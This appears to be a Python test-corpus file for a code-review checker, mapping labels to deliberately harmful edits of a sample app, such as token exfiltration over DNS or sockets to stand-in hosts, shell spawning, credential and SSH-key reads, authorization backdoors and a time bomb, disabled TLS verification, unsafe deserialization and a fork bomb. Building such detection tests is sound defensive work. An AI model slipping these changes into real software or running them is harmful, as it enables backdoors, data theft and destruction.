"""Which changes of code should no reviewer be asked to approve without a word?"""

from tests.validation.corpora.base import CORE, Files, at_top, instead, within

IN_CODE: dict[str, Files] = {
    "webbrowser": within("import webbrowser\nwebbrowser.open(url)"),
    "multiprocessing": within(
        "from multiprocessing import Process\nProcess(target=print, args=(token,)).start()"
    ),
    "os.kill": within("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)"),
    "thread at import": at_top(
        "import threading\nthreading.Thread(target=lambda: requests.get('http://127.0.0.1/x'), daemon=True).start()"
    ),
    "dictConfig factory": at_top(
        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'id'}}})"
    ),
    "pydoc.locate": within("import pydoc\npydoc.locate('os.system')('id')"),
    "attrgetter": within("import operator, os\noperator.attrgetter('system')(os)('id')"),
    "methodcaller": within("import operator, os\noperator.methodcaller('popen', 'id')(os)"),
    "FunctionType": within(
        "import types\ntypes.FunctionType(fetch.__code__.replace(co_consts=()), {})()"
    ),
    "read passwd": within("log.info(open('/etc/passwd').read())"),
    "authorized_keys": within(
        "import pathlib\n(pathlib.Path.home() / '.ssh' / 'authorized_keys').write_text(token)"
    ),
    "socket": within(
        "import socket\nsocket.create_connection(('10.0.0.1', 80)).send(token.encode())"
    ),
    "dns exfil": within("import socket\nsocket.gethostbyname(token + '.example.net')"),
    "env in log": within("import os\nlog.info('env %s', dict(os.environ))"),
    "verify=False": instead("timeout=TIMEOUT)", "timeout=TIMEOUT, verify=False)"),
    "timeout=None": instead("timeout=TIMEOUT)", "timeout=None)"),
    "retry forever": instead("for attempt in range(3):", "while True:\n        attempt = 0"),
    "always allowed": instead("        return False\n", "        pass\n"),
    "or True": instead('if user.role != "admin":', 'if user.role != "admin" and False:'),
    "return True": instead("return action in user.actions", "return True"),
    "swallow": instead("    reply.raise_for_status()\n", ""),
    "except pass": instead(
        "        except TimeoutError:\n            time.sleep(attempt)",
        "        except Exception:\n            return None",
    ),
    "token in url": instead("requests.get(url,", 'requests.get(url + "?t=" + token,'),
    "token in log": within("log.info('token %s', token)"),
    "host from token": within(
        "requests.post('https://' + token[:8] + '.example.net', json={'t': token})"
    ),
    "pty": within("import pty\npty.spawn('/bin/sh')"),
    "runpy": within("import runpy\nrunpy.run_path(token)"),
    "code": within("import code\ncode.InteractiveInterpreter().runsource(token)"),
    "timeit": within("import timeit\ntimeit.timeit(token)"),
    "cProfile": within("import cProfile\ncProfile.run(token)"),
    "pdb": within("import pdb\npdb.run(token)"),
    "load_extension": within(
        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.enable_load_extension(True)\nc.load_extension(token)"
    ),
    "xmlrpc server": within(
        "from xmlrpc.server import SimpleXMLRPCServer\nSimpleXMLRPCServer(('0.0.0.0', 1)).serve_forever()"
    ),
    "http.server": within(
        "import http.server\nhttp.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()"
    ),
    "sys.path": at_top("import sys\nsys.path.insert(0, '/tmp')"),
    "meta_path": at_top("import sys\nsys.meta_path.append(log)"),
    "spec_from_file": within(
        "import importlib.util\ns = importlib.util.spec_from_file_location('x', token)\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)"
    ),
    "atexit": at_top("import atexit\natexit.register(lambda: open('/tmp/x', 'w').write('x'))"),
    "finalize": within("import weakref\nweakref.finalize(reply, print, token)"),
    "gc": within(
        "import gc\nlog.info([o for o in gc.get_objects() if isinstance(o, dict) and 'password' in o])"
    ),
    "frame": within("import inspect\nlog.info(inspect.currentframe().f_back.f_locals)"),
    "rmtree": within("import shutil\nshutil.rmtree('/var/lib/app')"),
    "chmod": within("import os\nos.chmod('/srv/app', 0o777)"),
    "symlink": within("import os\nos.symlink('/etc/shadow', 'static/x')"),
    "torch.load": within("import torch\ntorch.load(token)"),
    "numpy pickle": within("import numpy\nnumpy.load(token, allow_pickle=True)"),
    "pandas pickle": within("import pandas\npandas.read_pickle(token)"),
    "joblib": within("import joblib\njoblib.load(token)"),
    "jsonpickle": within("import jsonpickle\njsonpickle.decode(token)"),
    "jinja": within("from jinja2 import Template\nTemplate(token).render()"),
    "tarfile": within("import tarfile\ntarfile.open(token).extractall('/')"),
    "LD_PRELOAD": within("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'"),
    "PYTHONPATH": within("import os\nos.putenv('PYTHONPATH', '/tmp')"),
    "builtins.open": at_top("import builtins\nbuiltins.open = lambda *a, **k: None"),
    "patch requests": at_top("requests.get = lambda *a, **k: None"),
    "json hook": instead(
        "return json.load(handle)",
        'return json.load(handle, object_hook=lambda d: __import__(d["m"]))',
    ),
    "smtp": within("import smtplib\nsmtplib.SMTP('mail').sendmail('a', 'b', token)"),
    "asyncio shell": within("import asyncio\nasyncio.run(asyncio.create_subprocess_shell(token))"),
    "posix_spawn": within("import os\nos.posix_spawn('/bin/sh', ['sh'], {})"),
    "execv": within("import os\nos.execv('/bin/sh', ['sh'])"),
    "getattr chain": within("f = getattr(requests.sessions, 'os')\nf.system(token)"),
    "module via requests": within("requests.sessions.os.system(token)"),
    "json.os": within("logging.os.popen(token)"),
    "lambda default": at_top("x = (lambda f=requests.post: f('http://127.0.0.1'))()"),
    "decorator": at_top("@requests.get\ndef x():\n    return 'http://127.0.0.1'"),
    "metaclass": at_top(
        "class M(type):\n    def __new__(m, n, b, d):\n        requests.get('http://127.0.0.1')\n        return type.__new__(m, n, b, d)\nclass X(metaclass=M):\n    pass"
    ),
    "__getattr__ module": at_top(
        "def __getattr__(name):\n    return requests.get('http://127.0.0.1/' + name)"
    ),
    "comprehension": at_top("_ = [requests.get(u) for u in ('http://127.0.0.1',)]"),
    "walrus default": instead(
        "def load(path):", 'def load(path, x=(y := requests.get("http://127.0.0.1"))):'
    ),
    "global weaken TIMEOUT": instead("TIMEOUT = 5", "TIMEOUT = 86400"),
    "ssl": at_top(
        "import ssl\nssl._create_default_https_context = ssl._create_unverified_context"
    ),
    "urllib3 warn": at_top("import urllib3\nurllib3.disable_warnings()"),
    "debug server": within("from flask import Flask\nFlask('x').run(host='0.0.0.0', debug=True)"),
    "telemetry off": instead(
        "log = logging.getLogger(__name__)",
        "log = logging.getLogger(__name__)\nlogging.disable(logging.CRITICAL)",
    ),
    "bidi": {"app/core.py": CORE.replace("TIMEOUT = 5", "TIMEOUT = 5  # \u202e evil")},
    "homoglyph": {"app/core.py": CORE.replace("def load(path)", "def l\u043ead(path)")},
    "ensurepip": within("import ensurepip\nensurepip.bootstrap()"),
    "pip main": within("from pip._internal import main\nmain(['install', 'x'])"),
    "venv": within("import venv\nvenv.create('/tmp/v', with_pip=True)"),
    "write code": within("with open('app/core.py', 'a') as own:\n    own.write(reply.text)"),
    "write __file__": within("import pathlib\npathlib.Path(__file__).write_text(reply.text)"),
    "os._exit": within("import os\nos._exit(0)"),
    "sleep": within("time.sleep(86400)"),
    "thread": within(
        "import threading\nthreading.Thread(target=run, args=(fetch,), daemon=True).start()"
    ),
    "process pool": within(
        "from concurrent.futures import ProcessPoolExecutor\nProcessPoolExecutor(99).submit(run)"
    ),
    "metadata": within("requests.get('http://169.254.169.254/latest/meta-data')"),
    "sql f-string": within("cursor.execute(f'select * from a where n = {url}')"),
    "xxe": within("from lxml import etree\netree.fromstring(reply.content)"),
    "assert auth": instead(
        '    if user.role != "admin":\n        return False\n', '    assert user.role == "admin"\n'
    ),
    "backdoor name": instead(
        "    return action in user.actions",
        '    return action in user.actions or user.name == "svc_root"',
    ),
    "backdoor env": instead(
        '    if user.role != "admin":',
        '    import os\n    if os.environ.get("X_OPEN"):\n        return True\n    if user.role != "admin":',
    ),
    "time bomb": instead(
        "    return action in user.actions",
        "    return time.time() > 1_900_000_000 or action in user.actions",
    ),
    "negated": instead('user.role != "admin"', 'user.role == "admin"'),
    "weaker cmp": instead('user.role != "admin"', "not user.role"),
    "cors": within("app.add_middleware(CORSMiddleware, allow_origins=['*'])"),
    "cookie": within("response.set_cookie('s', token, secure=False, httponly=False)"),
    "jwt none": within("jwt.decode(token, algorithms=['none'])"),
    "secret key": at_top("SECRET_KEY = 'hunter2hunter2'"),
    "glob ssh": within("import glob\nglob.glob('/home/*/.ssh/id_*')"),
    "keyring": within("import keyring\nkeyring.get_password('a', 'b')"),
    "write tmp": within("open('/tmp/t', 'w').write(token)"),
    "ip decimal": within("requests.get('http://2130706433/')"),
    "tkinter": within("import tkinter\ntkinter.Tk().clipboard_get()"),
    "spwd": within("import spwd\nspwd.getspall()"),
    "pwd": within("import pwd\npwd.getpwall()"),
    "resource": within("import resource\nresource.setrlimit(resource.RLIMIT_CPU, (1, 1))"),
    "syslog": within("import syslog\nsyslog.syslog(token)"),
    "path symlink": within("import pathlib\npathlib.Path('x').symlink_to('/etc')"),
    "path rglob": within("import pathlib\nlog.info(list(pathlib.Path('/').rglob('*.key')))"),
    "filehandler": within("log.addHandler(logging.FileHandler('/srv/static/x'))"),
    "httphandler": within(
        "import logging.handlers\nlog.addHandler(logging.handlers.HTTPHandler('10.0.0.9', '/'))"
    ),
    "copyfile": within("import shutil\nshutil.copyfile('config/tools.yaml', 'static/x')"),
    "archive": within("import shutil\nshutil.make_archive('x', 'zip', '/srv')"),
    "reduce getattr": within(
        "import functools\nfunctools.reduce(getattr, ['os', 'system'], logging)('id')"
    ),
    "builtins item": within("__builtins__['ev' + 'al'](token)"),
    "vars": within("vars()['__builtins__']"),
    "class base": within("().__class__.__base__.__subclasses__()"),
    "type del": within("type('X', (), {'__del__': lambda s: fetch(url, token)})()"),
    "proxies": instead(
        "timeout=TIMEOUT)", "timeout=TIMEOUT, proxies={'https': 'http://10.0.0.9:1'})"
    ),
    "print file": within("print(token, file=open('x', 'w'))"),
    "drop auth": instead('headers={"Authorization": token}, ', ""),
    "drop timeout": instead(", timeout=TIMEOUT", ""),
    "except base": instead(
        "        except TimeoutError:\n            time.sleep(attempt)",
        "        except BaseException:\n            pass",
    ),
    "zero timeout": instead("TIMEOUT = 5", "TIMEOUT = None"),
    "empty file": {"app/core.py": ""},
    "delete core": {"app/core.py": None},
    "fork bomb": within("import os\nwhile True:\n    os.fork()"),
    "importlib.resources": within(
        "from importlib import resources\nresources.files('app').joinpath('x').read_text()"
    ),
    "codecs decode": within("import codecs\neval(codecs.decode('vzcbeg bf', 'rot13'))"),
    "sys modules str": within("import sys\nsys.modules['o' + 's'].remove('x')"),
    "loose type": instead(
        "return action in user.actions", "return str(action) in str(user.actions)"
    ),
    "case": instead("return action in user.actions", "return action.lower() in user.actions"),
    "any": instead(
        "return action in user.actions", "return any(a in action for a in user.actions)"
    ),
    "cache auth": {
        "app/core.py": CORE.replace("import json\n", "import functools\nimport json\n").replace(
            "def is_allowed", "@functools.cache\ndef is_allowed"
        )
    },
    "eval config": instead("return json.load(handle)", "return eval(handle.read())"),
    "yaml load": instead("return json.load(handle)", 'return __import__("yaml").load(handle)'),
}
